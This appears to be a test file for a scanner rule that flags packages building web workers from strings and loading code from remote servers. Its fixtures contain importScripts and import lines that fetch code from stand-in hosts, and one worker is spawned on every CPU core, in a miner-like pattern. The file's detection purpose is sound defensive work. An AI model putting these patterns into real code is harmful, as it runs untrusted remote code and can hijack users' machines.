import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from '../remote-code.rule.js';

const found = (lines: string[], start: string) => findingsOf(rule, { 'a.html': '<!doctype html><script src="lines.js"></script><script src="a.js"></script>', 'lines.js': `window.KINDS = { calm: { speed: 1 }, physics: ${JSON.stringify(lines)} };`, 'a.js': start }).map(({ severity, file }) => `${severity} ${file}`);
const THREAD = 'const make = (lines) => new Worker(URL.createObjectURL(new Blob([lines.join("\\n")]))); make(KINDS.physics);';

test('bad: lines of a thread or a script stand in a list of another script, and one loads code from a server', () => {
  for (const line of ["importScripts('https://cdn.fx.example/engine.js');", 'import run from "https://cdn.fx.example/core.mjs";', "import { a, b as c } from 'https://cdn.fx.example/core.mjs'", "import('https://cdn.fx.example/m.js')", '  self.importScripts(`https://cdn.fx.example/x/${n}.js`)']) assert.deepEqual(found([line, 'run();'], THREAD), ['high lines.js'], line);
  assert.deepEqual(found(["import('https://cdn.fx.example/m.js')", '.then((m) => m.go())'], "const put = (kind, lines) => { const element = document.createElement(kind); element.textContent = lines.join(''); document.head.append(element); }; put('script', KINDS.physics);"), ['high lines.js']);
  assert.deepEqual(found(["importScripts('https://cdn.jsdelivr.net/npm/engine/a.js');"], THREAD), ['medium lines.js']);
});

test('good: files of the package, a text that only speaks of it, and no thread', () => {
  assert.deepEqual(found(["importScripts('./engine.js');", 'onmessage = ({ data }) => postMessage(data * 2);'], THREAD), []);
  assert.deepEqual(found(["Load it by importScripts('https://cdn.fx.example/engine.js').", 'Import from https://cdn.fx.example/.'], THREAD), []);
  assert.deepEqual(found(["importScripts('https://cdn.fx.example/engine.js');"], 'document.body.append(KINDS.physics.join("\\n")); new Worker("./own.js");'), []);
});

test('bad: a thread whose code stands in one text and loads more in its middle; good: a text of lines that speak of it', () => {
  const thread = (line: string): string => `const body = \`\n  let job = null;\n  ${line}\n  setInterval(() => run(job), 0);\`;\nconst url = URL.createObjectURL(new Blob([body]));\nfor (let i = 0; i < navigator.hardwareConcurrency; i++) new Worker(url);`;
  assert.deepEqual(findingsOf(rule, { 'a.js': thread("importScripts('https://pool.fx.example/engine.js');") }).map(({ severity }) => severity), ['high']);
  assert.deepEqual(findingsOf(rule, { 'a.js': thread("// see importScripts('https://pool.fx.example/engine.js');") }), []);
  assert.deepEqual(findingsOf(rule, { 'a.js': thread("importScripts('./engine.js');") }), []);
});
